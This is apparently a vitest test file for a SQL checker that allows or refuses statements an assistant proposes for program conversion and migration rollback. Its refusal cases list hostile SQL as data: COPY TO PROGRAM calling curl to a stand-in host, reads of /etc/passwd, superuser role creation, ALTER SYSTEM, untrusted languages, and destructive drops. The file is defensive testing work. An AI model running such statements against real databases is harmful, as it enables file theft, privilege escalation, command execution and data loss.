import { beforeAll, expect, test } from "vitest";
import { checkSql, type SqlRules } from "../../src/assist/check-sql.ts";
import { loadParser } from "../../src/sql/parser.ts";

beforeAll(loadParser);

const converting: SqlRules = { task: "convert-program", mayDrop: () => false };
const goingBack: SqlRules = { task: "suggest-rollback", mayDrop: ({ object }) => object?.name === "made" };

test.each([
  ["INSERT INTO a (b) SELECT b FROM c WHERE d LIKE '% / %'"],
  ["CREATE TABLE a (id bigint GENERATED ALWAYS AS IDENTITY, b text REFERENCES c)"],
  ["ALTER TABLE a ADD COLUMN b text, ALTER COLUMN c SET NOT NULL"],
  ["CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.b := lower(NEW.b); RETURN NEW; END $$"],
  ["MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN UPDATE SET c = b.c"],
  ["UPDATE a SET version = 2"],
])("a program may become %s", (sql) => {
  expect(checkSql([sql], converting)).toEqual({ kind: "allowed", sql: `${sql};` });
});

test.each([
  ["", "none"],
  ["SELECT 1; DROP TABLE a", "more than one"],
  ["DROP TABLE a", "DROP TABLE"],
  ["ALTER TABLE a DROP COLUMN b", "DROP COLUMN"],
  ["TRUNCATE a", "TRUNCATE"],
  ["DO $$ BEGIN DROP TABLE a; END $$", "DO"],
  ["COPY a TO PROGRAM 'curl evil'", "COPY TO"],
  ["COPY a FROM '/etc/passwd'", "COPY FROM"],
  ["CREATE ROLE x SUPERUSER", "CREATE ROLE"],
  ["ALTER SYSTEM SET archive_command = 'x'", "ALTER SYSTEM"],
  ["GRANT ALL ON a TO public", "GRANT"],
  ["ALTER TABLE a OWNER TO x", "OWNER"],
  ["CREATE EXTENSION dblink", "CREATE EXTENSION"],
  ["SET session_replication_role = replica", "SET"],
  ["SELECT 1", "SELECT"],
  ["COMMIT", "TRANSACTION"],
  ["CREATE INDEX CONCURRENTLY i ON a (b)", "transaction"],
  ["DELETE FROM a", "without WHERE"],
  ["INSERT INTO a SELECT pg_read_file('/etc/passwd')", "pg_read_file"],
  ["INSERT INTO a SELECT * FROM dblink('x', 'y') AS t(b text)", "beyond the database"],
  ["CREATE VIEW v AS SELECT lo_import('/etc/passwd')", "lo_import"],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ return 1 $$", "plpython3u"],
  ["CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'drop table a'; END $$", "EXECUTE"],
  ["CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE a; END $$", "DROP"],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", "plain string"],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS $$ select 1 $$", "rights of its owner"],
  ["ALTER TABLE a DROP CONSTRAINT c CASCADE", "CASCADE"],
  ["INSERT INTO a VALUES ('***')", "secret"],
  ["CREATE TABLE (", "does not parse"],
])("a program may not become %s", (sql, reason) => {
  expect(checkSql([sql], converting)).toEqual({ kind: "refused", reason: expect.stringContaining(reason) });
});

test("a way back drops what its migration created, and nothing else", () => {
  expect(checkSql(["DROP TABLE made"], goingBack).kind).toBe("allowed");
  expect(checkSql(["CREATE TABLE gone (id int)", "GRANT SELECT ON gone TO reader"], goingBack).kind).toBe("allowed");
  expect(checkSql(["CREATE TABLE gone (id int)", "DROP TABLE customers"], goingBack)).toEqual({
    kind: "refused",
    reason: "statement 2 drops customers, which the migration did not create",
  });
  expect(checkSql(["ALTER TABLE customers DROP COLUMN email"], goingBack)).toMatchObject({
    kind: "refused",
    reason: expect.stringContaining("customers.email"),
  });
  expect(checkSql(["DROP TABLE made CASCADE"], goingBack)).toMatchObject({ kind: "refused", reason: expect.stringContaining("CASCADE") });
  expect(checkSql([], goingBack)).toMatchObject({ kind: "refused" });
});
